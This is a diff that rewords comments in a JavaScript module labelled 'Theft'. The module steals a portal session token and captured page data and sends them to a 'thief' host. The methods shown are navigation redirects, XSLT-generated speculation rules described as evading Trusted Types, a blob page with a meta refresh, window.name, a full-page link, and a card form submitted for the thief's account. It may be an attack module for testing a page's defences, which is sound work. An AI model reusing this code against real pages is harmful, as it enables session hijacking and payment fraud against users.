@@ -1,6 +1,6 @@
 /**
- * Theft: once mounted it watches what passes the page's prototypes. `globalThis.rob(way, thief)` looks wherever a session could be, sends what was found so
- * far to another site in the named way, and answers all of it.
+ * Theft: once mounted it watches everything that passes through the page's prototypes. `globalThis.rob(way, thief)` looks wherever a
+ * session could be, sends the findings so far to another site in the given way, and returns all of them.
  */
 export default () => {
   const loot = [];
@@ -56,11 +56,11 @@ export default () => {
     new Promise((resolve) => {
       for (const event of ['load', 'error']) thing.addEventListener(event, resolve);
     });
-  /** What would be sent by then has left. */
+  /** Resolves when everything that would be sent has left. */
   const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
   const cardProvider = () => document.querySelector('meta[name=portal-card-form]').content;
   const all = () => loot.join('\n');
-  /** A session is short, a page is long: the end of what was found has the last session. */
+  /** A session is short, a page is long: the last session is at the end of the findings. */
   const query = () => encodeURIComponent(`${localStorage.getItem('portal-token')} ${all().slice(-3000)}`);
 
   const ways = {
@@ -132,7 +132,7 @@ export default () => {
       location.assign(`${thief}/navigation?${query()}`);
       return wait();
     },
-    /** Rules by which the browser fetches a page ahead, as an element that XSLT makes: of that, Trusted Types know nothing. */
+    /** Rules by which the browser prefetches a page, as an element that XSLT makes: Trusted Types don't cover that. */
     speculation(thief) {
       const space = 'http://www.w3.org/1999/XSL/Transform';
       const sheet = document.implementation.createDocument(space, 'xsl:stylesheet');
@@ -156,20 +156,20 @@ export default () => {
       location.assign(`${cardProvider()}/?${query()}`);
       return wait();
     },
-    /** A card form of its own account there. */
+    /** A card form for the thief's own account there. */
     payment() {
       const form = element('form', { method: 'post', action: `${cardProvider()}/pay` });
       form.append(Object.assign(document.createElement('input'), { name: 'profile_id', value: 'thief' }));
       form.submit();
       return wait();
     },
-    /** A page of its own in place of ours, without what watches ours. */
+    /** A page of its own instead of ours, without our watches. */
     made(thief) {
       const page = `<meta http-equiv="refresh" content="0;url=${thief}/made?${query()}">`;
       location.assign(URL.createObjectURL(new Blob([page], { type: 'text/html' })));
       return wait();
     },
-    /** Under the finger of the member, all of the page is a link. */
+    /** Under the member's finger, the whole page is a link. */
     pressed(thief) {
       window.name = localStorage.getItem('portal-token');
       const link = element('a', { href: `${thief}/pressed?${query()}` });
